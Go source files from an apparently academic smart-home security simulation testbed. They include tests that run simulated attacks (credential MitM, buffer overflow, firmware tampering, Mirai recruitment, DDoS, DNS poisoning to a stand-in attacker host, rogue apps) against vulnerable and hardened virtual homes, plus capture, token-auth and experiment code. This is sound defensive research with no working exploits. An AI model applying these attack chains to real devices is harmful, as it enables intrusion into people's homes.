func TestMitMPasswordStealing(t *testing.T) {
	h := vulnerableHome(t)
	res := (&attack.StaticPasswordMitM{Target: "bulb-1"}).Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("attack failed: %s", res)
	}
	if res.Loot["password"] != "admin" {
		t.Errorf("loot = %v", res.Loot)
	}
	if !h.Devices["bulb-1"].Compromised {
		t.Error("bulb not marked compromised")
	}
	// Rotating credentials blocks the takeover.
	h2 := vulnerableHome(t)
	h2.Devices["bulb-1"].Creds.Password = "rotated-strong"
	h2.Devices["bulb-1"].Creds.Default = false
	res2 := (&attack.StaticPasswordMitM{Target: "bulb-1", Sniffed: h.Devices["bulb-1"].Creds}).Execute(h2.AttackEnv())
	if res2.Succeeded {
		t.Error("stale sniffed credentials still worked after rotation")
	}
}

func TestBufferOverflowBounds(t *testing.T) {
	h := vulnerableHome(t)
	if res := (&attack.BufferOverflow{Target: "wallpad-1", PayloadLen: 100}).Execute(h.AttackEnv()); res.Succeeded {
		t.Error("in-bounds payload exploited")
	}
	res := (&attack.BufferOverflow{Target: "wallpad-1", PayloadLen: 2048}).Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("overflow failed: %s", res)
	}
	if h.Devices["wallpad-1"].State() != "unlocked" {
		t.Error("shellcode did not unlock")
	}
	// Patched firmware resists.
	h2 := vulnerableHome(t)
	h2.Devices["wallpad-1"].Firmware.Version = "3.1.0"
	if res := (&attack.BufferOverflow{Target: "wallpad-1", PayloadLen: 2048}).Execute(h2.AttackEnv()); res.Succeeded {
		t.Error("patched firmware exploited")
	}
}

func TestFirmwareModulationBlockedBySigning(t *testing.T) {
	vulnerable := vulnerableHome(t)
	res := (&attack.FirmwareModulation{Target: "cam-1"}).Execute(vulnerable.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("tamper failed on open OTA: %s", res)
	}
	if !vulnerable.Devices["cam-1"].Firmware.Tampered {
		t.Error("firmware not tampered")
	}

	hardened := hardenedHome(t)
	res = (&attack.FirmwareModulation{Target: "cam-1"}).Execute(hardened.AttackEnv())
	if res.Succeeded {
		t.Errorf("signed OTA pipeline accepted tampered image: %s", res)
	}
	if !strings.Contains(res.Blocked, "OTA") {
		t.Errorf("blocked reason = %q", res.Blocked)
	}
}

func TestMiraiRecruitmentChain(t *testing.T) {
	h := vulnerableHome(t)
	m := &attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 5 * time.Second}
	res := m.Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("recruitment failed: %s", res)
	}
	// The camera has telnet + default creds in the catalog.
	found := false
	for _, id := range m.Recruited() {
		if id == "cam-1" {
			found = true
		}
	}
	if !found {
		t.Errorf("recruited = %v, want cam-1 included", m.Recruited())
	}
	if err := h.Run(2 * time.Minute); err != nil {
		t.Fatal(err)
	}
	// Beacons reached the WAN.
	beacons := 0
	for _, r := range h.WANCap.Records() {
		if r.Dst == "wan:cnc" {
			beacons++
		}
	}
	if beacons < 5 {
		t.Errorf("C&C beacons on WAN = %d, want several", beacons)
	}
}

func TestMiraiBlockedWithoutDefaults(t *testing.T) {
	h := vulnerableHome(t)
	for _, d := range h.Devices {
		d.Creds.Default = false
		d.Creds.Password = "rotated-" + d.ID
	}
	res := (&attack.MiraiRecruit{CNC: "wan:cnc"}).Execute(h.AttackEnv())
	if res.Succeeded {
		t.Error("recruitment succeeded despite rotated credentials")
	}
}

func TestDDoSFloodNeedsBots(t *testing.T) {
	h := vulnerableHome(t)
	env := h.AttackEnv()
	if res := (&attack.DDoSFlood{Victim: "wan:victim"}).Execute(env); res.Succeeded {
		t.Error("flood without bots succeeded")
	}
	(&attack.MiraiRecruit{CNC: "wan:cnc"}).Execute(env)
	h.Run(30 * time.Second)
	res := (&attack.DDoSFlood{Victim: "wan:victim", Rate: 50, Duration: 5 * time.Second}).Execute(env)
	if !res.Succeeded {
		t.Fatalf("flood failed: %s", res)
	}
	h.Run(h.Kernel.Now() + 10*time.Second)
	floodPkts := 0
	for _, r := range h.WANCap.Records() {
		if r.Dst == "wan:victim" {
			floodPkts++
		}
	}
	if floodPkts < 100 {
		t.Errorf("flood packets on WAN = %d, want lots", floodPkts)
	}
}

func TestDNSPoisonCleartextVsDoT(t *testing.T) {
	h := vulnerableHome(t) // cleartext DNS
	env := h.AttackEnv()
	p := &attack.DNSPoison{Resolver: h.Resolver, Domain: "dropcam.example", Redirect: "wan:attacker"}
	if res := p.Execute(env); !res.Succeeded {
		t.Errorf("cleartext poisoning failed: %s", res)
	}

	h2 := hardenedHome(t) // DoT
	p2 := &attack.DNSPoison{Resolver: h2.Resolver, Domain: "dropcam.example", Redirect: "wan:attacker"}
	if res := p2.Execute(h2.AttackEnv()); res.Succeeded {
		t.Errorf("DoT accepted forgery: %s", res)
	}
}

func TestEventSpoofing(t *testing.T) {
	h := vulnerableHome(t)
	res := (&attack.EventSpoof{DeviceID: "cam-1", Event: "motion", Value: 1}).Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("spoof rejected on vulnerable platform: %s", res)
	}
	h2 := hardenedHome(t)
	res = (&attack.EventSpoof{DeviceID: "cam-1", Event: "motion", Value: 1}).Execute(h2.AttackEnv())
	if res.Succeeded {
		t.Error("hardened platform accepted spoof")
	}
}

func TestRogueAppOverPrivilege(t *testing.T) {
	h := vulnerableHome(t) // CoarseGrants on
	res := (&attack.RogueApp{
		AppID: "free-wallpaper", CoverDevice: "window-1", CoverCap: "contact",
		TargetDevice: "window-1", TargetCommand: "unlock",
	}).Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("over-privilege abuse failed: %s", res)
	}

	h2 := hardenedHome(t) // fine-grained grants
	res = (&attack.RogueApp{
		AppID: "free-wallpaper", CoverDevice: "window-1", CoverCap: "contact",
		TargetDevice: "window-1", TargetCommand: "unlock",
	}).Execute(h2.AttackEnv())
	if res.Succeeded {
		t.Error("fine-grained sandbox let the hidden command through")
	}
}

func TestPolicyAbuse(t *testing.T) {
	h := vulnerableHome(t)
	if err := h.InstallClimateAutomation(); err != nil {
		t.Fatal(err)
	}
	res := (&attack.PolicyAbuse{ThermoID: "thermo-1", FakeTempF: 95}).Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("policy abuse failed: %s", res)
	}
	// Without the automation installed, nothing reacts.
	h2 := vulnerableHome(t)
	res = (&attack.PolicyAbuse{ThermoID: "thermo-1", FakeTempF: 95}).Execute(h2.AttackEnv())
	if res.Succeeded {
		t.Error("policy abuse succeeded with no automation installed")
	}
}

func TestResultString(t *testing.T) {
	ok := attack.Result{Attack: "x", Succeeded: true, Impact: "boom"}
	if !strings.Contains(ok.String(), "SUCCESS") {
		t.Error(ok.String())
	}
	blocked := attack.Result{Attack: "x", Blocked: "nope"}
	if !strings.Contains(blocked.String(), "BLOCKED") {
		t.Error(blocked.String())
	}
}

func TestUnknownTargets(t *testing.T) {
	h := vulnerableHome(t)
	env := h.AttackEnv()
	for _, a := range []attack.Attack{
		&attack.StaticPasswordMitM{Target: "ghost"},
		&attack.BufferOverflow{Target: "ghost", PayloadLen: 999},
		&attack.FirmwareModulation{Target: "ghost"},
		&attack.Rickrolling{Target: "ghost"},
		&attack.UPnPSniff{Target: "ghost"},
		&attack.MaliciousMail{Target: "ghost"},
		&attack.OpenWiFiMitM{Target: "ghost", Pivot: "bulb-1"},
	} {
		if res := a.Execute(env); res.Succeeded {
			t.Errorf("%s succeeded on missing device", a.Name())
		}
	}
}

func TestSpamGeneratesWANTraffic(t *testing.T) {
	h := vulnerableHome(t)
	res := (&attack.MaliciousMail{Target: "fridge-1", Burst: 30}).Execute(h.AttackEnv())
	if !res.Succeeded {
		t.Fatalf("infection failed: %s", res)
	}
	h.Run(time.Minute)
	smtp := 0
	for _, r := range h.WANCap.Records() {
		if r.DstPort == 25 {
			smtp++
		}
	}
	if smtp < 25 {
		t.Errorf("SMTP bursts on WAN = %d, want ~30", smtp)
	}
}

var _ = netsim.Addr("") // keep import for test helpers
