package sim

import "testing"

// raceEnabled is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so byte-exact AllocsPerRun guards only run
// in regular builds.
var raceEnabled bool

// TestStepAllocFree is the dynamic half of the //xlf:hotpath contract
// on Kernel.Step: dispatching an already-queued event — including a
// ScheduleArg event, whose payload is boxed at schedule time — must not
// allocate. The queue is pre-filled so only the dispatch itself is
// measured.
func TestStepAllocFree(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}

	const runs = 200
	k := NewKernel(1)
	noop := func() {}
	noopArg := func(any) {}
	var payload int
	for i := 0; i < runs+2; i++ {
		k.Schedule(0, "noop", noop)
		k.ScheduleArg(0, "noop-arg", noopArg, &payload)
	}
	if n := testing.AllocsPerRun(runs, func() {
		if !k.Step() || !k.Step() {
			t.Fatal("queue drained early")
		}
	}); n != 0 {
		t.Errorf("Step allocates %.1f per dispatch pair, want 0", n)
	}
}
