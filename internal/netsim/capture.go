package netsim

import (
	"sort"
	"time"
)

// PacketRecord is what an observer at a tap point legitimately sees: the
// metadata of one packet. Note there is no App/Dummy field — a passive
// adversary (or XLF's own monitors) must infer semantics from metadata, as
// in Apthorpe et al. and HoMonit.
type PacketRecord struct {
	Time     time.Duration
	Src, Dst Addr
	SrcPort  int
	DstPort  int
	Proto    string
	Size     int
	// Encrypted tells the observer it cannot read the payload.
	Encrypted bool
	// DNSName is visible only on cleartext DNS.
	DNSName string
	// Payload is included only for cleartext packets.
	Payload []byte
}

// Capture accumulates PacketRecords from a tap.
type Capture struct {
	records []PacketRecord
	// IncludePayloads controls whether cleartext payloads are retained.
	IncludePayloads bool
}

// NewCapture returns an empty capture.
func NewCapture() *Capture { return &Capture{} }

// Tap returns the tap function to register with Network.AddTap.
func (c *Capture) Tap() Tap {
	return func(dir TapDirection, pkt *Packet) {
		rec := PacketRecord{
			Time:      pkt.DeliveredAt,
			Src:       pkt.Src,
			Dst:       pkt.Dst,
			SrcPort:   pkt.SrcPort,
			DstPort:   pkt.DstPort,
			Proto:     pkt.Proto,
			Size:      pkt.Size,
			Encrypted: pkt.Encrypted,
		}
		if !pkt.Encrypted {
			rec.DNSName = pkt.DNSName
			if c.IncludePayloads {
				rec.Payload = append([]byte(nil), pkt.Payload...)
			}
		}
		c.records = append(c.records, rec)
	}
}

// Records returns the captured packets in delivery order (a copy of the
// slice; records are shared).
func (c *Capture) Records() []PacketRecord {
	out := make([]PacketRecord, len(c.records))
	copy(out, c.records)
	return out
}

// Len returns the number of captured packets.
func (c *Capture) Len() int { return len(c.records) }

// Reset discards captured packets.
func (c *Capture) Reset() { c.records = c.records[:0] }

// FlowStat summarises one unidirectional flow in a capture.
type FlowStat struct {
	Key     FlowKey
	Packets int
	Bytes   int
	First   time.Duration
	Last    time.Duration
}

// Rate returns the mean throughput in bytes/second over the flow's active
// interval (0 if degenerate).
func (f FlowStat) Rate() float64 {
	d := (f.Last - f.First).Seconds()
	if d <= 0 {
		return 0
	}
	return float64(f.Bytes) / d
}

// FlowStats aggregates a capture into per-flow summaries, sorted by
// descending byte count — step one of the Apthorpe-style observer.
func FlowStats(records []PacketRecord) []FlowStat {
	agg := make(map[FlowKey]*FlowStat)
	for _, r := range records {
		k := FlowKey{Src: r.Src, Dst: r.Dst, DstPort: r.DstPort, Proto: r.Proto}
		s, ok := agg[k]
		if !ok {
			s = &FlowStat{Key: k, First: r.Time}
			agg[k] = s
		}
		s.Packets++
		s.Bytes += r.Size
		s.Last = r.Time
	}
	out := make([]FlowStat, 0, len(agg))
	for _, s := range agg {
		out = append(out, *s)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Bytes != out[j].Bytes {
			return out[i].Bytes > out[j].Bytes
		}
		return out[i].Key.Src < out[j].Key.Src
	})
	return out
}
