// Package xauth implements the XLF authentication design of §IV-A1: an
// SSO token scheme, a cloud authority that combines SSO with multi-factor
// authentication, and the XLF delegation proxy that caches SSO tokens,
// validates timestamps, and serves LAN requests locally so that
// constrained devices never run the SSO math themselves.
//
// The Barreto et al. baseline (cloud-roundtrip for basic users, on-device
// SSO for advanced users) is implemented alongside for the E3 experiment.
package xauth

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"time"
)

// Privilege is the user class from the paper: basic users read processed
// data; advanced users may push firmware and change configuration.
type Privilege int

// Privilege levels.
const (
	Basic Privilege = iota + 1
	Advanced
)

func (p Privilege) String() string {
	switch p {
	case Basic:
		return "basic"
	case Advanced:
		return "advanced"
	default:
		return fmt.Sprintf("Privilege(%d)", int(p))
	}
}

// Token is a signed SSO token. Times are simulation offsets, not wall
// clock: the whole testbed runs on the sim kernel.
type Token struct {
	Subject   string        `json:"sub"`
	Device    string        `json:"dev"` // target device ID, "" = any
	Priv      Privilege     `json:"prv"`
	IssuedAt  time.Duration `json:"iat"`
	ExpiresAt time.Duration `json:"exp"`
	// MFA records that a second factor was verified at issuance.
	MFA bool `json:"mfa"`
	// Sig is the HMAC-SHA256 over the other fields.
	Sig []byte `json:"sig"`
}

// Errors returned by Verify.
var (
	ErrBadSignature = errors.New("xauth: bad token signature")
	ErrExpired      = errors.New("xauth: token expired")
	ErrNotYetValid  = errors.New("xauth: token issued in the future")
	ErrWrongDevice  = errors.New("xauth: token bound to a different device")
)

// Signer issues and verifies tokens with a shared secret.
type Signer struct {
	key []byte
}

// NewSigner builds a signer; the key must be non-empty.
func NewSigner(key []byte) (*Signer, error) {
	if len(key) == 0 {
		return nil, errors.New("xauth: empty signing key")
	}
	return &Signer{key: append([]byte(nil), key...)}, nil
}

func (s *Signer) mac(t *Token) []byte {
	m := hmac.New(sha256.New, s.key)
	fmt.Fprintf(m, "%s|%s|%d|%d|%d|%t", t.Subject, t.Device, t.Priv, t.IssuedAt, t.ExpiresAt, t.MFA)
	return m.Sum(nil)
}

// Issue creates a signed token valid for lifetime from now.
func (s *Signer) Issue(subject, deviceID string, priv Privilege, mfa bool, now, lifetime time.Duration) Token {
	t := Token{
		Subject:   subject,
		Device:    deviceID,
		Priv:      priv,
		IssuedAt:  now,
		ExpiresAt: now + lifetime,
		MFA:       mfa,
	}
	t.Sig = s.mac(&t)
	return t
}

// Verify checks signature and the timestamp window, and optionally the
// device binding. This is the "SSO authentication and timestamps
// validation" the paper moves off the device onto the proxy.
func (s *Signer) Verify(t Token, now time.Duration, deviceID string) error {
	want := s.mac(&t)
	if !hmac.Equal(want, t.Sig) {
		return ErrBadSignature
	}
	if now > t.ExpiresAt {
		return ErrExpired
	}
	if t.IssuedAt > now {
		return ErrNotYetValid
	}
	if t.Device != "" && deviceID != "" && t.Device != deviceID {
		return ErrWrongDevice
	}
	return nil
}

// Encode serialises a token for transport.
func Encode(t Token) string {
	b, err := json.Marshal(t)
	if err != nil {
		// Token contains only marshalable fields; this cannot fail.
		panic(err)
	}
	return base64.RawURLEncoding.EncodeToString(b)
}

// Redact renders a token for logs, errors and metrics labels without
// the signature or device binding: subject, privilege and a 4-byte
// signature prefix, enough to correlate log lines without making the
// log a credential store. This is the sanitizer the secretleak taint
// rule accepts between token material and observability sinks.
func Redact(t Token) string {
	sig := "unsigned"
	if len(t.Sig) >= 4 {
		sig = fmt.Sprintf("%x…", t.Sig[:4])
	}
	return fmt.Sprintf("token(%s/%s sig=%s)", t.Subject, t.Priv, sig)
}

// Decode parses a transported token.
func Decode(s string) (Token, error) {
	var t Token
	b, err := base64.RawURLEncoding.DecodeString(strings.TrimSpace(s))
	if err != nil {
		return t, fmt.Errorf("xauth: decode token: %w", err)
	}
	if err := json.Unmarshal(b, &t); err != nil {
		return t, fmt.Errorf("xauth: decode token: %w", err)
	}
	return t, nil
}
