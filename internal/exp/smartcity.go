package exp

import (
	"fmt"
	"time"

	"xlf/internal/metrics"
	"xlf/internal/obs"
	"xlf/internal/testbed"
)

// runE10 is the kernel scale experiment behind ROADMAP item 1: the
// smart-city fleet (testbed.City) at increasing device counts on one
// simulation kernel, reporting dispatch volume and sustained event
// throughput. The registry sweep stops at 50k devices so the full suite
// stays fast under -race; examples/smartcity runs the same scenario at
// one million devices.
//
// It is the E10 registry entry. Each scale point builds its own city from
// the seed, so the grid fans out across env.Workers; throughput is timed
// on env.Clock, and the rendered columns are simulation counts only, so
// the table replays byte-identically under a step clock.
func runE10(env *Env) *Result {
	r := &Result{ID: "E10", Title: "Smart-city scale: one kernel, 10^3..5*10^4 devices"}
	t := metrics.NewTable("", "Devices", "Districts", "Reports", "Delivered", "KernelEvents", "SimTime")

	scales := []int{1000, 10000, 50000}
	type point struct {
		st           testbed.CityStats
		eventsPerSec float64
		injected     uint64
		detected     uint64
		breaches     uint64
		windows      uint64
		dumps        int
	}
	rows := Sweep(env, len(scales), func(i int, env *Env) point {
		cfg := testbed.CityConfig{
			Seed:        env.Seed,
			Devices:     scales[i],
			ReportEvery: 10 * time.Second,
			Horizon:     60 * time.Second,
		}
		// With telemetry on, each scale point runs the default attack
		// timeline and its rollups/dumps flow into the env's telemetry
		// tree under a per-scale source label.
		if interval := env.RollupInterval(); interval > 0 {
			cfg.RollupInterval = interval
			cfg.Attacks = testbed.DefaultCityAttacks()
		}
		city, err := testbed.NewCity(cfg)
		if err != nil {
			panic(err)
		}
		start := env.Clock()
		st, err := city.Run()
		if err != nil {
			panic(err)
		}
		elapsed := env.Clock() - start
		p := point{st: st}
		if elapsed > 0 {
			p.eventsPerSec = float64(st.Events) / elapsed.Seconds()
		}
		if tel := city.Telemetry(); tel != nil {
			env.AttachTelemetry(fmt.Sprintf("E10/%d", scales[i]), tel.Rollup, tel.Recorder)
			p.injected = tel.Registry.Counter(obs.DetectInjected).Value()
			p.detected = tel.Registry.Counter(obs.DetectDetected).Value()
			p.breaches = tel.Registry.Counter(obs.DetectSLOBreach).Value()
			p.windows = uint64(tel.Rollup.Total())
			p.dumps = len(tel.Recorder.Dumps())
		}
		return p
	})

	var events uint64
	telemetry := env.RollupInterval() > 0
	var injected, detected, breaches, windows uint64
	var dumps int
	for i, scale := range scales {
		st := rows[i].st
		if st.Dropped != 0 || st.Sent == 0 {
			panic(fmt.Sprintf("exp: E10 scale %d lost reports: %+v", scale, st))
		}
		events += st.Events
		injected += rows[i].injected
		detected += rows[i].detected
		breaches += rows[i].breaches
		windows += rows[i].windows
		dumps += rows[i].dumps
		t.AddRow(
			fmt.Sprintf("%d", st.Devices),
			fmt.Sprintf("%d", st.Districts),
			fmt.Sprintf("%d", st.Sent),
			fmt.Sprintf("%d", st.Delivered),
			fmt.Sprintf("%d", st.Events),
			st.Now.String(),
		)
	}

	r.Output = t.String()
	r.num("scales", float64(len(scales)))
	r.num("devices_max", float64(scales[len(scales)-1]))
	r.num("events_total", float64(events))
	// Host-dependent: excluded from Output so reports stay byte-identical.
	r.num("events_per_sec_max_scale", rows[len(rows)-1].eventsPerSec)
	if telemetry {
		// Present only under -telemetry; bench-compare skips the prefix.
		r.num("telemetry.injected", float64(injected))
		r.num("telemetry.detected", float64(detected))
		r.num("telemetry.slo_breaches", float64(breaches))
		r.num("telemetry.windows", float64(windows))
		r.num("telemetry.dumps", float64(dumps))
	}
	return r
}
