package obs

import (
	"testing"
	"time"
)

// TestRollupDeltasAndRates pins the core windowing arithmetic: deltas
// are per-window differences of cumulative counters and the rate is the
// delta over the window length.
func TestRollupDeltasAndRates(t *testing.T) {
	reg := NewRegistry()
	c := reg.Counter("pkts")
	ru := NewRollup(reg, time.Second, 8)

	c.Add(10)
	ru.Tick(1 * time.Second)
	c.Add(30)
	ru.Tick(3 * time.Second) // a 2s window

	ws := ru.Windows()
	if len(ws) != 2 {
		t.Fatalf("got %d windows, want 2", len(ws))
	}
	w0, w1 := ws[0], ws[1]
	if w0.Index != 0 || w0.Start != 0 || w0.End != time.Second {
		t.Errorf("window 0 bounds = (%d, %s, %s)", w0.Index, w0.Start, w0.End)
	}
	if len(w0.Counters) != 1 || w0.Counters[0].Delta != 10 || w0.Counters[0].Total != 10 {
		t.Errorf("window 0 counters = %+v", w0.Counters)
	}
	if w0.Counters[0].PerSec != 10 {
		t.Errorf("window 0 rate = %g, want 10/s", w0.Counters[0].PerSec)
	}
	if w1.Counters[0].Delta != 30 || w1.Counters[0].Total != 40 {
		t.Errorf("window 1 counters = %+v", w1.Counters)
	}
	if w1.Counters[0].PerSec != 15 {
		t.Errorf("window 1 rate = %g, want 30 over 2s = 15/s", w1.Counters[0].PerSec)
	}
}

// TestRollupHistogramWindows checks that histogram windows carry
// per-window quantiles over only the window's observations, while the
// cumulative quantiles track the whole distribution.
func TestRollupHistogramWindows(t *testing.T) {
	reg := NewRegistry()
	h := reg.Histogram("lat")
	ru := NewRollup(reg, time.Second, 8)

	for i := 0; i < 100; i++ {
		h.Observe(1) // bucket [1,1]: exact
	}
	ru.Tick(1 * time.Second)
	for i := 0; i < 100; i++ {
		h.Observe(1 << 20)
	}
	ru.Tick(2 * time.Second)

	ws := ru.Windows()
	if len(ws) != 2 {
		t.Fatalf("got %d windows, want 2", len(ws))
	}
	h0, h1 := ws[0].Hists[0], ws[1].Hists[0]
	if h0.Delta != 100 || h0.P50 != 1 || h0.P99 != 1 {
		t.Errorf("window 0 hist = %+v, want delta 100 with p50=p99=1", h0)
	}
	if h1.Delta != 100 {
		t.Errorf("window 1 delta = %d, want 100", h1.Delta)
	}
	// Window 1 saw only the big values; its p50 must sit in the bucket
	// holding 1<<20, not be dragged down by window 0's ones.
	if h1.P50 < 1<<20 || h1.P50 > 1<<21-1 {
		t.Errorf("window 1 p50 = %d, want within [2^20, 2^21)", h1.P50)
	}
	// The cumulative p50 straddles the two halves: it must be far below
	// window 1's p50.
	if h1.CumP50 >= h1.P50 {
		t.Errorf("cumulative p50 %d not below window p50 %d", h1.CumP50, h1.P50)
	}
	if h1.Count != 200 {
		t.Errorf("cumulative count = %d, want 200", h1.Count)
	}
}

// TestRollupRingEviction pins the bounded-ring contract: the ring keeps
// the newest windows, Total counts everything, Evicted the displaced.
func TestRollupRingEviction(t *testing.T) {
	reg := NewRegistry()
	c := reg.Counter("n")
	ru := NewRollup(reg, time.Second, 3)
	for i := 1; i <= 5; i++ {
		c.Inc()
		ru.Tick(time.Duration(i) * time.Second)
	}
	ws := ru.Windows()
	if len(ws) != 3 {
		t.Fatalf("ring holds %d windows, want 3", len(ws))
	}
	for i, w := range ws {
		if want := i + 2; w.Index != want {
			t.Errorf("window %d has index %d, want %d (oldest evicted first)", i, w.Index, want)
		}
	}
	if ru.Total() != 5 {
		t.Errorf("Total = %d, want 5", ru.Total())
	}
	if ru.Evicted() != 2 {
		t.Errorf("Evicted = %d, want 2", ru.Evicted())
	}
}

// TestRollupOnWindowHook checks the per-window hook sees each completed
// record before the ring advances.
func TestRollupOnWindowHook(t *testing.T) {
	reg := NewRegistry()
	c := reg.Counter("n")
	ru := NewRollup(reg, time.Second, 4)
	var seen []int
	ru.SetOnWindow(func(w *WindowRecord) { seen = append(seen, w.Index) })
	c.Inc()
	ru.Tick(time.Second)
	c.Inc()
	ru.Tick(2 * time.Second)
	if len(seen) != 2 || seen[0] != 0 || seen[1] != 1 {
		t.Errorf("hook saw %v, want [0 1]", seen)
	}
}

// TestRollupNilSafety: the disabled rollup no-ops everywhere.
func TestRollupNilSafety(t *testing.T) {
	var ru *Rollup
	ru.Tick(time.Second)
	ru.SetOnWindow(func(*WindowRecord) {})
	if ru.Windows() != nil || ru.Total() != 0 || ru.Evicted() != 0 || ru.Interval() != 0 {
		t.Error("nil rollup leaked state")
	}
}

// TestRollupSteadyStateAllocs: once the ring has lapped and every metric
// name is known, Tick must stop growing its slot slices (the per-window
// Snapshot copy is the only remaining allocation, which is the documented
// cold-path budget).
func TestRollupSteadyStateAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}
	reg := NewRegistry()
	c := reg.Counter("n")
	h := reg.Histogram("lat")
	ru := NewRollup(reg, time.Second, 4)
	now := time.Duration(0)
	for i := 0; i < 8; i++ { // lap the ring twice to warm every slot
		now += time.Second
		c.Inc()
		h.Observe(uint64(i))
		ru.Tick(now)
	}
	// Steady state: per-Tick allocations must be bounded by the Snapshot
	// copy alone (4 slice headers + bucket slices), independent of ring
	// position.
	n := testing.AllocsPerRun(100, func() {
		now += time.Second
		c.Inc()
		h.Observe(7)
		ru.Tick(now)
	})
	if n > 8 {
		t.Errorf("steady-state Tick allocates %.1f per run, want <= 8 (snapshot copy only)", n)
	}
}
