package exp

import (
	"fmt"

	"xlf/internal/behavior"
	"xlf/internal/device"
	"xlf/internal/metrics"
)

// runE5 evaluates the HoMonit-style pipeline end to end: packet-size
// fingerprints classified under increasing radio noise, recovered events
// fed through the per-device DFA, and spoof-detection F1 as the outcome.
// The edit-distance threshold is swept as the ablation DESIGN.md calls
// out.
//
// It is the E5 registry entry. The noise × threshold grid is flattened
// into independent sweep points (each restarts the seed's RNG stream), so
// it fans out across env.Workers.
func runE5(env *Env) *Result {
	r := &Result{ID: "E5", Title: "Behaviour DFA: spoof detection under fingerprint noise"}

	prints := []behavior.Fingerprint{
		{Event: "on", Seq: []int{2, 4, 2, 6, 2}},
		{Event: "off", Seq: []int{2, 4, 1, 1, 2}},
		{Event: "dim", Seq: []int{3, 4, 2, 5, 1}},
		{Event: "motion", Seq: []int{8, 8, 16, 4, 8}},
		{Event: "clear", Seq: []int{8, 2, 2, 4, 1}},
	}

	type e5Grid struct {
		noise float64
		thr   int
	}
	var grid []e5Grid
	for _, noise := range []float64{0, 0.1, 0.2, 0.35} {
		for _, thr := range []int{20, 40, 60} {
			grid = append(grid, e5Grid{noise, thr})
		}
	}
	type e5Out struct {
		acc  float64
		conf metrics.Confusion
	}
	points := Sweep(env, len(grid), func(i int, env *Env) e5Out {
		acc, conf := e5Point(env, prints, grid[i].noise, grid[i].thr)
		return e5Out{acc, conf}
	})

	t := metrics.NewTable("", "Noise", "Threshold%", "ClassifyAcc", "SpoofPrec", "SpoofRecall", "SpoofF1")
	for i, g := range grid {
		acc, conf := points[i].acc, points[i].conf
		t.AddRow(
			fmt.Sprintf("%.2f", g.noise), fmt.Sprint(g.thr),
			fmt.Sprintf("%.3f", acc),
			fmt.Sprintf("%.3f", conf.Precision()),
			fmt.Sprintf("%.3f", conf.Recall()),
			fmt.Sprintf("%.3f", conf.F1()),
		)
		if g.thr == 40 {
			r.num(fmt.Sprintf("f1_noise_%.2f", g.noise), conf.F1())
			r.num(fmt.Sprintf("acc_noise_%.2f", g.noise), acc)
		}
	}
	r.Output = t.String() +
		"\nSpoofs are event injections illegal in the bulb/camera DFA state; noise\n" +
		"mutates each fingerprint element with the given probability.\n"
	return r
}

func e5Point(env *Env, prints []behavior.Fingerprint, noise float64, thresholdPct int) (float64, metrics.Confusion) {
	lib, err := behavior.NewLibrary(prints, thresholdPct, true)
	if err != nil {
		panic(err)
	}
	rng := env.Rand()

	bulb := device.NewSmartBulb("bulb")
	cam := device.NewNetworkCamera("cam")
	monBulb, err := behavior.NewMonitor("bulb", bulb.Behavior)
	if err != nil {
		panic(err)
	}
	monCam, err := behavior.NewMonitor("cam", cam.Behavior)
	if err != nil {
		panic(err)
	}

	// Legal traces interleaved with injected spoofs (events illegal in the
	// current state).
	bulbTrace := []string{"on", "dim", "off", "on", "off", "on", "dim", "off"}
	camTrace := []string{"motion", "clear", "motion", "clear"}

	type obs struct {
		mon   *behavior.Monitor
		event string
		spoof bool
	}
	var seq []obs
	bi, ci := 0, 0
	for bi < len(bulbTrace) || ci < len(camTrace) {
		if bi < len(bulbTrace) {
			seq = append(seq, obs{monBulb, bulbTrace[bi], false})
			bi++
		}
		if ci < len(camTrace) {
			seq = append(seq, obs{monCam, camTrace[ci], false})
			ci++
		}
		// Periodic spoof injections: "dim" while bulb off, "clear" while
		// camera monitoring.
		if bi == 3 {
			seq = append(seq, obs{monBulb, "dim", true})
		}
		if ci == 2 {
			seq = append(seq, obs{monCam, "clear", true})
		}
	}

	correctClassify, totalClassify := 0, 0
	var conf metrics.Confusion
	byEvent := make(map[string][]int)
	for _, p := range prints {
		byEvent[p.Event] = p.Seq
	}
	for _, o := range seq {
		// Render the event as a (possibly noisy) fingerprint sequence.
		base, ok := byEvent[o.event]
		if !ok {
			continue
		}
		fp := append([]int(nil), base...)
		for i := range fp {
			if rng.Float64() < noise {
				fp[i] += rng.Intn(5) - 2
				if fp[i] < 0 {
					fp[i] = 0
				}
			}
		}
		got, dist, ok := lib.Classify(fp)
		totalClassify++
		if ok && got == o.event {
			correctClassify++
		}
		var flagged bool
		if !ok {
			d := o.mon.ObserveUnknown(dist)
			flagged = d != nil
		} else {
			flagged = o.mon.Observe(got) != nil
		}
		conf.Record(flagged, o.spoof)
	}
	acc := 0.0
	if totalClassify > 0 {
		acc = float64(correctClassify) / float64(totalClassify)
	}
	return acc, conf
}
