package device

import "fmt"

// This file provides the canonical smart-home device builds used by the
// testbed and by the Table II attack scenarios. Each build pairs a Table I
// hardware profile with firmware, credentials, ports, cloud endpoints and
// a ground-truth behaviour automaton.

// mustParse unwraps a fallible constructor result for the compiled-in
// catalog tables. A failure here is a defect in the table itself, so it
// panics — but with the build and field named, the broken row is
// findable without decoding a stack trace.
func mustParse[T any](build, field string, v T, err error) T {
	if err != nil {
		panic(fmt.Sprintf("device: catalog %s/%s: %v", build, field, err))
	}
	return v
}

func mustProfile(build, name string) Profile {
	p, err := ProfileByName(name)
	return mustParse(build, "profile", p, err)
}

func mustBehavior(build string, initial State, trs []Transition) *Behavior {
	b, err := NewBehavior(initial, trs)
	return mustParse(build, "behavior", b, err)
}

// NewSmartBulb builds the Table II "smart light bulb": static default
// password, cleartext LAN control port.
func NewSmartBulb(id string) *Device {
